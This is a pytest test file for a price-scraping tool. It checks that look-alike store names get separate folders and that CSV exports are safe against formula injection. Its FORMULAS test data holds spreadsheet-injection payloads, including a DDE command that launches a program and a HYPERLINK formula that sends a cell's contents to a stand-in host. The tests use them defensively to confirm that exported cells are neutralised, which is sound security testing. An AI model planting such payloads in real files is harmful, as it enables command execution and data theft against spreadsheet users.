"""Names that look like other names: no store gets another's files, and no name is run as a formula."""
import csv
import json
import os
import re
import shlex
import sys
from pathlib import Path
from urllib.parse import unquote

import duckdb
import pandas as pd
import pyarrow as pa
import pyarrow.dataset as ds
import pyarrow.parquet as pq
import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from typer.testing import CliRunner

from scrapeopt.analysis.web_map import draw_maps
from scrapeopt.cli import app
from scrapeopt.commands.demo import make_twins
from scrapeopt.core.spreadsheet import RISKY, plain_cell, safe_cell, safe_table
from scrapeopt.storage.price_export import safe_text
from scrapeopt.storage.snapshots import folder_name, snapshot_path
from scrapeopt.storage.store_file import read_stores
from scrapeopt.storage.store_folders import folder_owners, inbox_folder, owner_of
from scrapeopt.storage.table_file import read_table
from scrapeopt.update import update_db
from scrapeopt.workspace import Workspace

NOON = pd.Timestamp("2026-11-19 02:00", tz="UTC")
FILE = f"{NOON:%Y%m%dT%H%M%SZ}.jsonl"
LOOK_ALIKE = [("a#b", "a%23b"), ("7/11", "7%2F11"), (".x", "%2Ex"), ("東京", "%E6%9D%B1%E4%BA%AC"), ("d=1", "d%3D1"),
              ("#", "%23"),
              ("new~", "new%7E"), ("a%b", "a%25b"), ("x.part", "x%2Epart"), ("a#b", inbox_folder("a#b"))]


def chain(path: Path, stores: list[tuple[str, str]]) -> Workspace:
    "A workspace with these stores: company and id."
    ws = Workspace.create(path / "ws", policy="document")
    ws.import_stores(pd.DataFrame([(company, store, "", 42.6 + i / 100, 23.3) for i, (company, store) in
                                   enumerate(stores)], columns=["company", "store_id", "name", "lat", "lon"]))
    return ws


def put(folder: Path, cents: int, product: str = "milk") -> Path:
    "A scraped file with one price."
    folder.mkdir(parents=True, exist_ok=True)
    (folder / FILE).write_text(json.dumps({"product_id": product, "price": f"{cents / 100:.2f}"}) + "\n")
    return folder / FILE


def served(ws: Workspace) -> dict[tuple[str, str], float]:
    "What each store charges for its one product."
    table = ws.prices(now=NOON)
    return {(row.company, row.store_id): float(row.price) for row in table.itertuples()}


def run(*words: object) -> tuple[int, str]:
    "A command line: its exit code and all it says."
    result = CliRunner().invoke(app, [str(w) for w in words], catch_exceptions=False)
    return result.exit_code, result.output


# ---- folders of the inbox -----------------------------------------------------------------------------------------

@pytest.mark.parametrize("swapped", [False, True])
@pytest.mark.parametrize("pair", LOOK_ALIKE, ids=" ".join)
def test_stores_that_look_alike_keep_their_prices(tmp_path, pair, swapped):
    stores = [("Mart", store) for store in (pair[::-1] if swapped else pair)]
    ws = chain(tmp_path, stores)
    for i, store in enumerate(stores): put(ws.inbox(*store), 100 + i)
    report = update_db(ws, now=NOON)
    assert (report.files, report.quarantined) == (2, 0)
    assert served(ws) == {store: (100 + i) / 100 for i, store in enumerate(stores)}


@pytest.mark.parametrize("pair", LOOK_ALIKE[:5], ids=" ".join)
def test_companies_that_look_alike_keep_their_prices(tmp_path, pair):
    stores = [(company, "1") for company in pair]
    ws = chain(tmp_path, stores)
    for i, store in enumerate(stores): put(ws.inbox(*store), 100 + i)
    assert update_db(ws, now=NOON, company=pair[1]).files == 1
    assert update_db(ws, now=NOON).files == 1
    assert served(ws) == {store: (100 + i) / 100 for i, store in enumerate(stores)}


@pytest.mark.parametrize("pair", LOOK_ALIKE[:4], ids=" ".join)
def test_a_folder_that_may_be_of_two_stores_is_refused_and_the_one_it_names_is_taken(tmp_path, pair):
    plain, coded = pair
    ws = chain(tmp_path, [("Mart", plain), ("Mart", coded), ("Mart", "1")])
    put(ws.inbox("Mart", "1"), 100)
    put(ws.path / "inbox" / "Mart" / coded, 200)
    code, said = run("update-db", "-w", ws.path, "--now", NOON)
    assert code == 2 and f"its folder '{coded}' can be that of store '" in said
    assert served(ws) == {("Mart", "1"): 1.0}
    aside, = (ws.path / "quarantine").rglob("*.rejected")
    told = re.findall(r"store '(.+?)' \(then name the folder '(.+?)'\)", said)
    assert sorted(store for store, _ in told) == sorted(pair)
    right = ws.path / "inbox" / "Mart" / dict(told)[coded]
    right.mkdir(parents=True)
    aside.rename(right / FILE)
    assert update_db(ws, now=NOON).files == 1 and served(ws)["Mart", coded] == 2.0


def test_a_company_folder_that_may_be_of_two_is_refused(tmp_path):
    ws = chain(tmp_path, [("A&B/C", "1"), ("A&B%2FC", "1")])
    for name in ("A&B%2FC", "%41&B%252FC"): put(ws.path / "inbox" / name / "1", 100)
    report = update_db(ws, now=NOON)
    assert report.files == 1 and "can be that of company 'A&B%2FC'" in " ".join(report.problems)
    assert served(ws) == {("A&B%2FC", "1"): 1.0}


@pytest.mark.parametrize("folder", ["a%23b&c", "a#b&c", "%61%23b&c", "a%23b%26c", "a%23b%26%63"])
def test_every_spelling_is_taken_while_it_is_clear(tmp_path, folder):
    ws = chain(tmp_path, [("Mart", "a#b&c"), ("Mart", "1")])
    put(ws.path / "inbox" / "Mart" / folder, 100)
    assert update_db(ws, now=NOON).files == 1 and served(ws) == {("Mart", "a#b&c"): 1.0}


@pytest.mark.parametrize("folder", [b"a\xff", b"a%FF", b"%2561%2523b", b"%", b"%2", b"a\nb"])
def test_a_folder_that_is_nobodys_is_named(tmp_path, folder):
    ws = chain(tmp_path, [("Mart", "a#b")])
    put(Path(os.fsdecode(os.path.join(os.fsencode(ws.path / "inbox" / "Mart"), folder))), 100)
    report = update_db(ws, now=NOON)
    assert (report.files, report.quarantined) == (0, 1) and "Mart has no store" in report.problems[0]


@pytest.mark.parametrize("store", ["new~", "x.part", "X.PART", ".x", "..", "a.part~"])
def test_a_store_that_is_called_like_an_unfinished_file_is_seen(tmp_path, store):
    ws = chain(tmp_path, [("Mart", store)])
    put(ws.inbox("Mart", store), 100)
    assert update_db(ws, now=NOON).files == 1 and served(ws) == {("Mart", store): 1.0}


def test_a_scrape_of_stores_that_look_alike_lands_apart(tmp_path):
    ws = chain(tmp_path, [("Mart", store) for store in LOOK_ALIKE[0]])
    ws.cluster(min_samples=2)
    script = tmp_path / "spider.py"
    script.write_text("import sys, json\nstore, out = sys.argv[1:]\n"
                      "open(out, 'w').write(json.dumps({'product_id': 'milk', 'price': len(store)}) + '\\n')\n")
    command = shlex.join([sys.executable, str(script)]) + " {store_id} {output}"
    assert run("scrape", "-w", ws.path, "-n", 2, "--command", command, "--now", NOON)[0] == 0
    assert update_db(ws, now=NOON).files == 2
    assert served(ws) == {("Mart", "a#b"): 3.0, ("Mart", "a%23b"): 5.0}


@pytest.mark.parametrize("companies", [("A&B", "A%26B"), ("A%26B", "A&B")])
def test_quarantine_is_told_of_the_company_that_it_is_of(tmp_path, companies):
    ws = chain(tmp_path, [(companies[0], "1")])
    file = put(ws.path / "inbox" / "A%26B" / "1", 100)
    file.write_text("torn\n" * 5 + file.read_text())
    assert update_db(ws, now=NOON).files == 1
    kinds = {p["kind"]: p["company"] for row in json.loads(run("status", "-w", ws.path, "--json", "--now", NOON)[1])
             for p in row["problems"]}
    assert kinds["quarantine"] == companies[0]


names = st.text(st.sampled_from("aA1#%/=~.+ é店235FfpartPART"), min_size=1, max_size=8).filter(lambda s: s == s.strip())


@given(st.lists(names, min_size=1, max_size=8, unique=True))
@example(["#", "%23", "%2523"])
@example(["a/b", "%61%2Fb", "%2561%252Fb"])
def test_a_folder_that_we_make_is_its_stores_whatever_the_others_are_called(stores):
    stores += [s for name in tuple(stores) for s in (inbox_folder(name), folder_name(name)) if s not in stores]
    owners = folder_owners(stores)
    assert [owner_of(inbox_folder(name), owners, "store") for name in stores] == stores
    assert all(not re.search(r"^\.|/|~$|\.part$", inbox_folder(name), re.IGNORECASE) for name in stores)
    assert [unquote(inbox_folder(name)) for name in stores] == stores


# ---- folders of the prices ----------------------------------------------------------------------------------------

ODD_IDS = ["a#b", "a%23b", "a b", "a+b", "o'c", "a,b", "x=y", "a/b", ".a", "..", "~", "0041", "1e5", "2026-01-01",
           "NULL", "true", "é", "%", "a\\b", "a:b", "a?b", "a*b", "a[1]", 'a"b', "a;b", "$x", "nan", "-5", "%2F"]


@pytest.mark.parametrize("cast", [True, False])
def test_readers_of_hive_partitions_give_back_every_id(tmp_path, cast):
    for name in ODD_IDS:
        path = tmp_path / snapshot_path(name, name, NOON)
        path.parent.mkdir(parents=True)
        pq.write_table(pa.table({"id": [name]}), path)
    files = f"read_parquet('{tmp_path}/**/*.parquet', hive_partitioning = true, hive_types_autocast = {cast})"
    found = duckdb.sql(f"SELECT id, company::VARCHAR, store::VARCHAR FROM {files}").fetchall()
    assert len(found) == len(ODD_IDS) and all(len(set(row)) == 1 for row in found)
    parts = ds.partitioning(pa.schema([("company", pa.string()), ("store", pa.string())]), flavor="hive")
    rows = ds.dataset(tmp_path / "prices", partitioning=parts).to_table().to_pylist()
    assert sorted(r["id"] for r in rows) == sorted(ODD_IDS) and all(len(set(r.values())) == 1 for r in rows)


@given(st.lists(names, min_size=2, max_size=8, unique=True))
def test_no_two_stores_share_a_folder_of_prices(stores):
    assert len({snapshot_path("Mart", store, NOON) for store in stores}) == len(stores)


def test_maps_of_companies_that_look_alike_are_apart(tmp_path):
    ws = chain(tmp_path, [(company, str(i)) for company in ("Coles", "Coles-groups") for i in range(3)])
    for company, store in [(c, str(i)) for c in ws.companies() for i in range(3)]: put(ws.inbox(company, store), 100)
    ws.cluster(min_samples=2)
    update_db(ws, now=NOON)
    drawn = draw_maps(ws, basemap="none")
    assert len({path.name for path in drawn}) == len(drawn) and all(path.is_file() for path in drawn)


# ---- tables for spreadsheets --------------------------------------------------------------------------------------

FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x/"&A1)', "\uff1d1", "'=1"]


def cells(path: Path) -> list[list[str]]:
    "All cells of a CSV file."
    with path.open(newline="") as lines: return list(csv.reader(lines))


def test_no_exported_price_is_a_formula_and_the_ids_come_back(tmp_path):
    ws = chain(tmp_path, [("=Mart", "-7"), ("=Mart", "@1")])
    for store in ("-7", "@1"):
        file = put(ws.inbox("=Mart", store), 100)
        file.write_text("".join(json.dumps({"product_id": p, "price": "1.50"}) + "\n" for p in [*FORMULAS, "milk"]))
    update_db(ws, now=NOON)
    for name in ("p.csv", "p.parquet"): run("prices", "-w", ws.path, "--now", NOON, "--out", tmp_path / name)
    written = cells(tmp_path / "p.csv")
    assert len(written) == 1 + 2 * (len(FORMULAS) + 1)
    assert not [c for row in written for c in row if re.match("[=+\\-@\t\r\n\uff1d]", c)]
    assert {row[written[0].index("price")] for row in written[1:]} == {"1.50"}
    right = pd.read_parquet(tmp_path / "p.parquet")
    back = read_table(tmp_path / "p.csv", {})
    for column in ("company", "store_id", "product_id", "source_store"):
        assert back[column].tolist() == right[column].tolist()
    assert sorted(set(right["product_id"])) == sorted([*FORMULAS, "milk"])


@pytest.mark.parametrize("text", FORMULAS)
def test_bad_rows_are_no_formulas_and_come_back_mended(tmp_path, text):
    listed = pd.DataFrame([("Mart", "1", "Good", "-31.9", "115.8", "x"), (text, text, text, "-91.5", "115.8", text)],
                          columns=["company", "store_id", "name", "lat", "lon", f"{text} of it"])
    safe_table(listed, ("lat", "lon")).to_csv(tmp_path / "s.csv", index=False)  # as a spreadsheet would save it
    ws = Workspace.create(tmp_path / "ws")
    assert run("import-stores", tmp_path / "s.csv", "-w", ws.path, "--keep-good")[0] == 0
    head, row = cells(tmp_path / "s.bad.csv")
    assert not [c for c in [*head, *row] if re.match(RISKY, c) and c[0] != "'" and c != "-91.5"]
    assert row[head.index("lat")] == "-91.5" and row[head.index("name")] == f"'{text}"
    (tmp_path / "mended.csv").write_text((tmp_path / "s.bad.csv").read_text().replace("-91.5", "-31.5"))
    assert run("import-stores", tmp_path / "mended.csv", "-w", ws.path)[0] == 0
    stored = ws.stores().iloc[-1] if ws.stores()["company"].iloc[-1] == text else ws.stores().iloc[0]
    assert (stored["company"], stored["store_id"], stored["name"], stored["lat"]) == (text, text, text, -31.5)


def test_the_stores_of_a_twin_come_back_from_their_list(tmp_path):
    listed = pd.DataFrame([("Mart", text, text, -31.9 + i / 100, 115.8) for i, text in enumerate(FORMULAS)],
                          columns=["company", "store_id", "name", "lat", "lon"])
    listed.to_parquet(tmp_path / "s.parquet")
    make_twins(tmp_path / "twins", tmp_path / "s.parquet", n_products=20)
    assert not [c for row in cells(tmp_path / "twins" / "stores.csv")[1:] for c in row[:3] if re.match("[=+\\-@]", c)]
    pd.testing.assert_frame_equal(read_stores(tmp_path / "twins" / "stores.csv"), read_stores(tmp_path / "s.parquet"),
                                  check_dtype=False)


@given(st.text(st.sampled_from("'=+-@\t\r\n\uff1d\uff0b a1"), max_size=5), st.text(max_size=5))
def test_a_cell_is_no_formula_and_has_one_text(sign, rest):
    text = sign + rest
    assert plain_cell(safe_cell(text)) == text and safe_cell(text)[:1] not in tuple("=+-@\t\r\n\uff1d\uff0b")
    assert safe_text(pa.array([text])).to_pylist() == [safe_cell(text)]
    assert plain_cell(text) == text or safe_cell(plain_cell(text)) == text  # no two cells stand for one text
